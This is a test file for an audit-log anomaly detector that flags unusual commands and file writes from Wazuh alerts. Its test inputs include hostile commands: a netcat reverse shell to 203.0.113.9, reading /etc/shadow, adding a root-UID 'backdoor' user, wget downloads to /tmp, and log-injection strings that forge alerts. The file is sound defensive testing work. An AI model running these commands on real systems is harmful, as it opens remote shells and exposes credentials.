import { expect, test } from "vitest";
import { auditGuard } from "../../../detector/audit/guard.ts";
import { createDetector, formatModel, parseModel, trainDetector } from "../../../detector/model.ts";
import type { Alert } from "../../../domain/alert.ts";
import type { AuditEvent, AuditObservation, FileChange } from "../../../domain/audit/observation.ts";
import type { OptionValues } from "../../../domain/detector-options.ts";
import type { DetectorModel } from "../../../domain/detector.ts";
import { epochMs } from "../../../domain/time/clock.ts";
import { wazuhAlerts } from "../../../log/audit/original.ts";
import { needleLines, packedLines } from "../../log/audit/alerts.ts";
import { auditRow, earlierAudits, ranBy } from "../audit-traffic.ts";
import { auditTraffic, learnedAudits, testDetectorContract } from "../contract.ts";

const model = learnedAudits(auditGuard);

testDetectorContract(auditGuard, { traffic: auditTraffic, model });

function alertsOn(
  rows: readonly AuditObservation[],
  { by = model, options = {} }: { readonly by?: DetectorModel; readonly options?: OptionValues } = {},
): readonly Alert[] {
  const detector = createDetector(auditGuard, { source: "audit", model: by, options });
  return rows.flatMap((row) => detector.observe(row)).filter(({ state }) => state === "firing");
}

/** One alert a second on `web-1`. */
function rowsOf(...events: readonly AuditEvent[]): readonly AuditObservation[] {
  return events.map((event, index) => auditRow(event, index, epochMs + index * 1000));
}

function ranAs(user: string, ...words: readonly string[]): AuditEvent {
  const userId = user === "root" ? "0" : "2000";
  return { kind: "command", user, userId, loginUser: user, program: `/usr/bin/${words[0] ?? ""}`, words };
}

function wrote(user: string, path: string, more: Partial<FileChange> = {}): AuditEvent {
  const by = { program: "/usr/bin/dpkg", parent: "/usr/bin/unattended-upgrade", noticedBy: "whodata" };
  return {
    kind: "file",
    change: "modified",
    user,
    userId: user === "root" ? "0" : "33",
    path,
    ...by,
    ...more,
  };
}

const format = wazuhAlerts();

function alertsIn(lines: readonly string[]): readonly AuditObservation[] {
  return lines.flatMap((line, index) => {
    const parsed = format.decode(line, index);
    return parsed.kind === "row" ? [parsed.row] : [];
  });
}

const attacks = [0, 1, 2, 3, 4, 7, 8, 9, 10, 11, 12, 13];

test("of fifteen strange alerts it flags every attack, and none of the three harmless lines", () => {
  const golden = trainDetector(auditGuard, alertsIn(packedLines("train")));
  const needles = alertsIn(needleLines);

  const together = alertsOn(needles, { by: golden });
  const eachAlone = needles.filter((row) => alertsOn([row], { by: golden }).length > 0);

  expect(together.map(({ atIndex }) => atIndex)).toEqual(attacks);
  expect(eachAlone.map(({ index }) => index)).toEqual(attacks);
});

test("it flags none of 500 healthy alerts", () => {
  const golden = trainDetector(auditGuard, alertsIn(packedLines("train")));
  const healthy = alertsIn(packedLines("normal"));

  expect(healthy).toHaveLength(500);
  expect(alertsOn(healthy, { by: golden })).toEqual([]);
});

test.for([
  [
    "a service that runs what operators run",
    ranBy("www-data", "33", "sudo", "su", "-"),
    "user:www-data",
    /^www-data has never run sudo su; 0 of \d[\d,]* commands by this user, which others run: ran sudo su - on web-1; it becomes another user$/,
  ],
  [
    "a command that no user has run",
    ranAs("pyama", "nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
    "command:nc -e /bin/sh 203.0.113.9 4444",
    /^pyama has never run nc; 0 of \d[\d,]* commands by this user: .*connects a shell with another host$/,
  ],
  [
    "known words in another order, with a file of passwords",
    ranAs("pyama", "tail", "-n", "200", "/etc/shadow"),
    "command:tail -n 200 /etc/shadow",
    /^pyama has never run tail with these words; 0 of \d+ times/,
  ],
  [
    "a new user",
    ranAs("mallory", "sudo", "su", "-"),
    "user:mallory",
    /^mallory is a new user; 0 of \d[\d,]* alerts/,
  ],
  [
    "a service that writes its first file",
    wrote("www-data", "/var/www/app/current/public/uploads/a.php", { change: "added" }),
    "path:/var/www/app/current/public/uploads/a.php",
    /lies where a web server runs it$/,
  ],
  [
    "root, who is not passed over",
    ranBy("root", "0", "useradd", "-o", "-u", "0", "backdoor"),
    "command:useradd -o -u 0 backdoor",
    /^root has never run useradd;/,
  ],
] as const)("it says why: %s", ([, event, subject, evidence]) => {
  const [alert] = alertsOn(rowsOf(event));

  expect(alert).toMatchObject({ severity: "error", subject });
  expect(alert?.evidence).toMatch(evidence);
});

test.for([
  [
    "the program's own name is another's",
    { ...ranBy("root", "0", "run-parts", "--report", "/etc/cron.hourly"), program: "/tmp/x" },
  ],
  ["the number behind a name is root's", ranBy("toor", "0", "df", "-h")],
  ["it is known of a user whom another host names", { ...ranBy("33", "33", "sudo", "su", "-") }],
  [
    "the command hides behind 64 words",
    ranBy("www-data", "33", "sendmail", ...Array.from({ length: 80 }, () => "-t"), "| sh"),
  ],
  ["it hides in what a shell runs", ranBy("www-data", "33", "sh", "-c", "sendmail -t -i | sh")],
  ["it hides behind sudo and env", ranBy("www-data", "33", "sudo", "-u", "root", "env", "A=1", "su", "-")],
] as const)("it is not deceived when %s", ([, event]) => {
  expect(alertsOn(rowsOf(event))).toHaveLength(1);
});

test.for([
  ["a name of root in an argument", ' UID="root"'],
  ["a field of auditd", '" uid=0 UID="root" exe="/usr/bin/df"'],
  [
    "a line break and a false alert",
    '\n{"timestamp":"2024-09-16T00:00:00.000+0000","rule":{"id":"80792","level":3},"agent":{"name":"web-1"}}',
  ],
  ["the folder that is passed over", "/var/cache/"],
] as const)("a command or a file with %s hides nothing and forges nothing", ([, text]) => {
  const options = { ignoreUsers: "root", ignorePaths: "/var/cache" };
  const command = ranBy("www-data", "33", "wget", "http://203.0.113.9/x", text);
  const file = wrote("www-data", `/var/www/html/a${text}.php`, { change: "added" });
  const lines = rowsOf(command, file).map((row) => format.encode(row));
  const rows = lines.flatMap((line, index) => {
    const parsed = format.decode(line.trimEnd(), index);
    return parsed.kind === "row" ? [parsed.row] : [];
  });

  const alerts = alertsOn(rows, { options });

  expect(lines.every((line) => line.indexOf("\n") === line.length - 1)).toBe(true);
  expect(rows).toHaveLength(2);
  expect(alerts.map(({ atIndex }) => atIndex)).toEqual([0, 1]);
  expect(alerts[1]?.evidence).toMatch(/lies where a web server runs it$/);
  for (const { key, subject, evidence } of alerts)
    expect(`${key}${subject}${evidence}`).not.toMatch(/[\n\r]|user:root/);
});

const upgrade = ["openssl", "curl", "libc6"].flatMap((name) =>
  Array.from({ length: 100 }, (_, place) => wrote("root", `/opt/${name}/part-${place}.so`)),
);

const asked = {
  kind: "command",
  user: "www-data",
  userId: "33",
  words: ["sudo", "run-parts"],
  processId: 700,
} as const;
const answered = {
  kind: "command",
  user: "root",
  userId: "0",
  program: "/bin/run-parts",
  parentId: 700,
} as const;

test("a command of root is news when another program starts it", () => {
  const words = ["run-parts", "--report", "/etc/cron.hourly"];

  const [, alert] = alertsOn(rowsOf(asked, { ...answered, words }));

  expect(alert?.evidence).toMatch(/^root has never run run-parts from sudo run-parts; 0 of [\d,]+ times: /);
});

test.for([
  ["the same again", "web-1", "/tmp/a", 1],
  ["the same on another host", "web-2", "/tmp/a", 2],
  ["the same program with other words", "web-1", "/tmp/b", 2],
] as const)("of two dangerous commands it takes %s as it should", ([, host, path, count]) => {
  const rows = rowsOf(
    ranBy("www-data", "33", "wget", "http://203.0.113.9/x", "-O", "/tmp/a"),
    ranBy("www-data", "33", "wget", "http://203.0.113.9/x", "-O", path),
  );

  expect(alertsOn(rows.map((row, at) => (at === 0 ? row : { ...row, host })))).toHaveLength(count);
});

test("a burst that no log has shown is one alert", () => {
  expect(alertsOn(rowsOf(...upgrade))).toMatchObject([{ key: "user:root packages from unattended-upgrade" }]);
});

test.for([
  ["another user", wrote("www-data", "/opt/curl/part-7.so"), "user:www-data"],
  ["another program", wrote("root", "/opt/curl/part-7.so", { program: "/usr/bin/cp" }), "cp from"],
  ["another parent", wrote("root", "/opt/curl/part-7.so", { parent: "/bin/bash" }), "from bash"],
  ["a command", ranBy("root", "0", "chmod", "u+s", "/opt/curl/part-7.so"), "chmod"],
  ["the same programs with greater danger", wrote("root", "/etc/ld.so.preload"), "starts by itself"],
] as const)("inside such a burst it still sees %s", ([, event, key]) => {
  const rows = rowsOf(...upgrade.slice(0, 100), event, ...upgrade.slice(100));

  const alerts = alertsOn(rows);

  expect(alerts.map(({ atIndex }) => atIndex)).toEqual([0, 100]);
  expect(alerts[1]?.key).toContain(key);
});

/** Of a host whose agent does not tell who changed a file. */
function untold(path: string): AuditObservation {
  const event = {
    kind: "file",
    change: "modified",
    user: "root",
    userId: "0",
    path,
    noticedBy: "realtime",
  } as const;
  return { ...auditRow(event, 1, epochMs + 1000), host: "db-1" };
}

test("a burst on a host that tells no programs belongs to that of the others, file by file", () => {
  const told = rowsOf(wrote("root", "/opt/curl/part-1.so"));

  expect(alertsOn([...told, untold("/opt/curl/part-1.so")])).toHaveLength(1);
  expect(alertsOn([...told, untold("/etc/ld.so.preload")])).toHaveLength(2);
});

test("an episode ends half an hour after its last alert, and the same again is another", () => {
  const detector = createDetector(auditGuard, { source: "audit", model });
  const event = ranBy("www-data", "33", "id");
  const minutes = [0, 20, 51];
  const rows = minutes.map((minute, index) => auditRow(event, index, epochMs + minute * 60_000));

  const alerts = rows.flatMap((row) => detector.observe(row));

  expect(alerts.map(({ state, atMs }) => [state, (atMs - epochMs) / 60_000])).toEqual([
    ["firing", 0],
    ["resolved", 50],
    ["firing", 51],
  ]);
});

test.for([
  [{ ignoreUsers: "postgres:www-data" }, []],
  [{ ignoreUsers: "www-dat:data" }, [0, 1]],
  [{ ignorePaths: "/var/www/html/" }, [0]],
  [{ ignorePaths: "/var/www/html/a.php" }, [0]],
  [{ ignorePaths: "/var/www/ht" }, [0, 1]],
] as const)("%j passes over fields that match in full", ([options, expected]) => {
  const rows = rowsOf(
    ranBy("www-data", "33", "id"),
    wrote("www-data", "/var/www/html/a.php", { change: "added" }),
  );

  expect(alertsOn(rows, { options }).map(({ atIndex }) => atIndex)).toEqual(expected);
});

test("a path out of a folder that is passed over is judged", () => {
  const rows = rowsOf(wrote("www-data", "/var/cache/../www/html/a.php", { change: "added" }));

  expect(alertsOn(rows, { options: { ignorePaths: "/var/cache" } })).toHaveLength(1);
});

test("a smaller budget of false alarms takes a larger surprise", () => {
  const rows = rowsOf(ranAs("pyama", "lsblk"));

  const counts = [1000, 10_000_000].map((arl0) => alertsOn(rows, { options: { arl0 } }).length);

  expect(counts).toEqual([1, 0]);
});

test("its model survives its file, and detection does not change it", () => {
  const text = formatModel(model);
  const rows = rowsOf(ranBy("www-data", "33", "id"), ...upgrade);

  const alerts = alertsOn(rows);

  expect(formatModel(model)).toBe(text);
  expect(alertsOn(rows, { by: parseModel(text) })).toEqual(alerts);
});

test.for([
  ["of other features", { ...model, features: "words 1" }, 'it counts "words 1", not "user login host'],
  ["without anything", { schemaVersion: 1, detector: "audit-guard" }, "rows is missing"],
  ["of another detector", { schemaVersion: 1, detector: "login-guard" }, "it was trained for login-guard"],
  [
    "with a broken count",
    { ...model, calm: { rows: 0, bursts: 0, medianNats: 0 } },
    "calm.rows is 0, not a whole number from 1",
  ],
] as const)("a model %s is refused", ([, other, why]) => {
  const attempt = () => createDetector(auditGuard, { source: "audit", model: other });

  expect(attempt).toThrow(expect.objectContaining({ code: "BAD_MODEL" }));
  expect(attempt).toThrow(why);
});

const withoutModel = () => createDetector(auditGuard, { source: "audit" });

test("without a model it says how to get one", () => {
  expect(withoutModel).toThrow(expect.objectContaining({ code: "MODEL_NEEDED" }));
});

const login: AuditEvent = { kind: "other", description: "sshd: authentication success." };

test.for([
  ["an empty log", [], "Cannot train audit-guard on 0 rows."],
  [
    "a few alerts",
    rowsOf(...Array.from({ length: 19 }, () => ranAs("pyama", "ls"))),
    "Cannot train audit-guard on 19 rows.",
  ],
  [
    "one alert again and again",
    rowsOf(...Array.from({ length: 50 }, () => ranAs("pyama", "ls"))),
    "Cannot train audit-guard: all 50 alerts are the same.",
  ],
  [
    "alerts of other rules",
    rowsOf(...Array.from({ length: 50 }, () => login)),
    "Cannot train audit-guard: of 50 alerts none is about a command or a changed file.",
  ],
] as const)("training on %s is an error that says what is missing", ([, rows, message]) => {
  const attempt = () => trainDetector(auditGuard, rows);

  expect(attempt).toThrow(
    expect.objectContaining({ kind: "usage", code: "NOT_ENOUGH_HEALTHY_DATA", message }),
  );
});

test.for([
  ["an alert of an unknown rule", login, 0],
  ["a command line of a megabyte", ranBy("www-data", "33", "sendmail", "x".repeat(1_000_000)), 1],
  [
    "a command of a hundred thousand words",
    ranBy("www-data", "33", ...Array.from({ length: 100_000 }, () => "-t")),
    1,
  ],
  ["text that is no UTF-8", ranBy("www-data", "33", "sendmail", "\uFFFD\uD800\0\u202E"), 1],
  ["no user, program or words", { kind: "command", words: [] }, 1],
  ["an empty path", { kind: "file", change: "added", path: "", noticedBy: "" }, 1],
] as const satisfies readonly (readonly [string, AuditEvent, number])[])(
  "it survives %s",
  ([, event, count]) => {
    const alerts = alertsOn([...rowsOf(event), ...earlierAudits().slice(0, 10)]);

    expect(alerts).toHaveLength(count);
    expect(JSON.stringify(alerts).length).toBeLessThan(2000);
  },
);
